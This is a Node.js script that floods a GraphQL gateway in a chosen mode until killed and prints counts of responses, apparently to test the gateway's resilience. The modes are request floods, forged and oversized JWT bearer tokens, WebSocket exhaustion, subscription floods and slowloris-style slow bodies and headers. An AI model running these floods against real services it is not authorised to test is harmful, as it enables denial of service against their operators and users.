// Floods a gateway in one way until it is killed: node flooder.mjs KIND URL TOKEN. Prints what came of it, four times a second.
import { randomBytes } from 'node:crypto'
import { Agent, request } from 'node:http'
import { connect } from 'node:net'
import WebSocket from 'ws'

const [kind, url, token] = process.argv.slice(2)
const { hostname, port, pathname } = new URL(url)
const agent = new Agent({ keepAlive: true, maxSockets: 64 })
const outcomes = {}
const count = (outcome) => {
  outcomes[outcome] = (outcomes[outcome] ?? 0) + 1
}
setInterval(() => console.log(JSON.stringify(outcomes)), 250)
process.on('uncaughtException', () => count('failed'))

/** Posts without end, each time with other headers. */
function post(headersOf) {
  const headers = { 'content-type': 'application/json', ...headersOf() }
  const posting = request({ hostname, port, path: pathname, method: 'POST', agent, headers }, (response) => {
    count(response.statusCode)
    response.resume().once('end', () => post(headersOf))
  })
  posting.once('error', () => {
    count('failed')
    setTimeout(() => post(headersOf), 10)
  })
  posting.end('{"query":"{ __typename }"}')
}

const encoded = (value) => Buffer.from(JSON.stringify(value)).toString('base64url')
const claims = () => ({
  iss: 'https://id.example',
  aud: 'pgq',
  sub: randomBytes(8).toString('hex'),
  exp: 4_000_000_000,
})
const forged = (kid) =>
  `${encoded({ alg: 'ES256', kid })}.${encoded(claims())}.${randomBytes(64).toString('base64url')}`
const bearer = (credentials) => ({ authorization: `Bearer ${credentials}` })

/** Opens a socket, says something, and opens another when it is closed. */
function openSocket(say) {
  const socket = new WebSocket(url.replace(/^http/, 'ws'), 'graphql-transport-ws')
  socket.once('open', () => {
    count('opened')
    say(socket)
  })
  socket.once('error', () => count('failed'))
  socket.once('close', (code) => {
    count(code)
    setTimeout(() => openSocket(say), 20)
  })
}

/** Connects, sends a piece of a request every now and then, and connects anew when that is refused. */
function sendSlowly(head, piece) {
  const socket = connect(port, hostname, () => {
    count('opened')
    socket.write(head)
  })
  const pieces = setInterval(() => socket.write(piece), 100)
  socket.on('error', () => count('failed'))
  socket.once('close', () => {
    clearInterval(pieces)
    setTimeout(() => sendSlowly(head, piece), 20)
  })
}

const times = (number, start) => {
  for (let n = 0; n < number; n++) start()
}
const posting = `POST ${pathname} HTTP/1.1\r\nHost: ${hostname}:${port}\r\n`

const kinds = {
  requests: () => times(32, () => post(() => ({}))),
  'bad tokens': () => times(32, () => post(() => bearer(forged('known')))),
  'unknown kids': () => times(32, () => post(() => bearer(forged(randomBytes(8).toString('hex'))))),
  'huge tokens': () => times(32, () => post(() => bearer(randomBytes(9_000).toString('base64url')))),
  'huge tokens on sockets': () =>
    times(16, () =>
      openSocket((socket) => {
        const payload = { authorization: `Bearer ${randomBytes(500_000).toString('base64url')}` }
        socket.send(JSON.stringify({ type: 'connection_init', payload }))
      }),
    ),
  'sockets without init': () => times(500, () => openSocket(() => {})),
  'operations per socket': () =>
    times(2, () =>
      openSocket((socket) => {
        socket.send(JSON.stringify({ type: 'connection_init', payload: bearer(token) }))
        socket.on('message', (data) => {
          count(JSON.parse(String(data)).type)
          if (socket.bufferedAmount < 1_000_000) subscribe()
        })
        const query = 'subscription { queueStats(intervalSeconds: 3600) { name } }'
        const subscribe = () =>
          socket.send(
            JSON.stringify({ id: randomBytes(8).toString('hex'), type: 'subscribe', payload: { query } }),
          )
        setInterval(() => times(100, subscribe), 50)
      }),
    ),
  'slow bodies': () =>
    times(300, () =>
      sendSlowly(`${posting}Content-Type: application/json\r\nContent-Length: 1000000\r\n\r\n`, ' '),
    ),
  'slow headers': () => times(300, () => sendSlowly(posting, 'X-More: 1\r\n')),
}

kinds[kind]()
